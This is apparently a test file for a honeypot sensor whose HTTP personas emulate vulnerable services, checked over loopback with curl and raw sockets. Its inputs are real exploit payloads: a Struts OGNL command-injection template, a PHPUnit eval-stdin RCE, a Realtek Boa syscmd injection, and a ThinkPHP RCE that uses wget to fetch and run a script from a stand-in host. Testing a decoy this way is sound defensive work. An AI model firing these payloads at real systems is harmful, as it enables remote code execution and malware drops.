"""The dynamic persona features over loopback, with curl and raw sockets: injected commands answered
through the emulated shell (and their downloads recorded in the HTTP session), the product persona
on the events, HTTP/1.0 status lines, ``keep_alive.mode: close`` and per-response random ids."""

from __future__ import annotations

import json
import re
import socket
import subprocess

from honeyguard.model import Download, Event, HttpRequest
from tests.conftest import tool
from tests.sensor.http_helpers import exchange, read_all

OGNL = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
        "(#cmd='COMMAND').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds))}")


def curl(*args: str) -> str:
    done = subprocess.run([tool("curl"), "-s", "--max-time", "30", *args], capture_output=True, timeout=60)
    return done.stdout.decode("latin-1")


def test_struts_ognl_and_phpunit_answer_curl(make_sensor) -> None:  # type: ignore[no-untyped-def]
    port = make_sensor(["http"], personas={"http": "vulnerable-mix"}).port("http")
    echoed = curl("-H", "Content-Type: " + OGNL.replace("COMMAND", "echo S7RUTS; expr 6 \\* 7"),
                  f"http://127.0.0.1:{port}/struts2-showcase/showcase.action")
    assert echoed == "S7RUTS\n42\n"
    php = curl("--data-binary", "<?php echo md5('probe'); system('echo P; id');",
               f"http://127.0.0.1:{port}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")
    assert php == _md5("probe") + "P\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n"


def _md5(text: str) -> str:
    import hashlib
    return hashlib.md5(text.encode()).hexdigest()


def test_dropper_is_a_download_event_of_the_http_session(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], personas={"http": "vulnerable-mix"})
    port = sensor.port("http")
    target = ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
              "&vars[1][]=cd%20/tmp;wget%20http://203.0.113.77/t.sh;sh%20t.sh;ls")
    raw = exchange(port, f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert raw.startswith(b"HTTP/1.1 200 OK") and raw.endswith(b"t.sh\n")  # ls shows the dropped file

    def done(events: list[Event]) -> bool:
        return any(e.kind == "session.closed" for e in events)
    events = sensor.sink.wait_for(done, timeout=30)
    downloads = [e for e in events if isinstance(e.body, Download)]
    request = next(e for e in events if isinstance(e.body, HttpRequest))
    assert [d.body.url for d in downloads] == ["http://203.0.113.77/t.sh"]
    assert downloads[0].session == request.session and downloads[0].protocol == "http"
    assert downloads[0].persona == request.persona == "thinkphp"
    assert {e.persona for e in events if e.kind in ("connect", "session.closed")} == {"vulnerable-mix"}


def test_http10_status_line_for_go_and_netty(make_sensor) -> None:  # type: ignore[no-untyped-def]
    docker = make_sensor(["http"], personas={"http": "docker-api"}).port("http")
    elastic = make_sensor(["http"], personas={"http": "elasticsearch"}).port("http")
    ping10 = exchange(docker, b"GET /_ping HTTP/1.0\r\n\r\n")
    assert ping10.startswith(b"HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\n")
    assert b"\r\nConnection:" not in ping10 and ping10.endswith(b"\r\n\r\nOK")
    assert exchange(docker, b"GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").startswith(
        b"HTTP/1.1 200 OK")
    banner = exchange(elastic, b"GET / HTTP/1.0\r\n\r\n")
    assert re.match(rb"HTTP/1\.0 200 OK\r\nContent-Type: application/json; charset=UTF-8\r\nContent-Length: \d+"
                    rb"\r\n\r\n\{", banner), banner[:200]
    assert b'"number" : "1.4.2"' in banner


def test_keep_alive_mode_close_really_closes(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], personas={"http": "gpon-router"})
    with socket.create_connection(("127.0.0.1", sensor.port("http")), timeout=30) as sock:
        sock.sendall(b"GET /login.html HTTP/1.1\r\nHost: x\r\n\r\nGET /login.html HTTP/1.1\r\nHost: x\r\n\r\n")
        raw = read_all(sock)  # returns only because the sensor closes without the client half-closing
    assert raw.count(b"HTTP/1.1 200 OK") == 1 and b"\r\nConnection: close\r\n" in raw
    events = sensor.sink.wait_for(lambda es: any(e.kind == "session.closed" for e in es), timeout=30)
    closed = next(e for e in events if e.kind == "session.closed")
    assert closed.body.reason == "server-closed"


def test_container_ids_are_fresh_per_response(make_sensor) -> None:  # type: ignore[no-untyped-def]
    port = make_sensor(["http"], personas={"http": "docker-api"}).port("http")
    ids = set()
    for _ in range(3):
        answer = curl("-X", "POST", "-H", "Content-Type: application/json", "--data", '{"Image":"alpine"}',
                      f"http://127.0.0.1:{port}/v1.41/containers/create")
        ids.add(json.loads(answer)["Id"])
    assert len(ids) == 3 and all(re.fullmatch(r"[0-9a-f]{64}", i) for i in ids)


def test_realtek_syscmd_shows_the_last_command_of_this_client(make_sensor) -> None:  # type: ignore[no-untyped-def]
    port = make_sensor(["http"], personas={"http": "realtek-boa"}).port("http")
    posted = curl("-o", "/dev/null", "-w", "%{http_code}", "--data", "sysCmd=echo+B0A_OK&apply=Apply",
                  f"http://127.0.0.1:{port}/boafrm/formSysCmd")
    assert posted == "302"
    assert "B0A_OK" in curl(f"http://127.0.0.1:{port}/syscmd.htm")
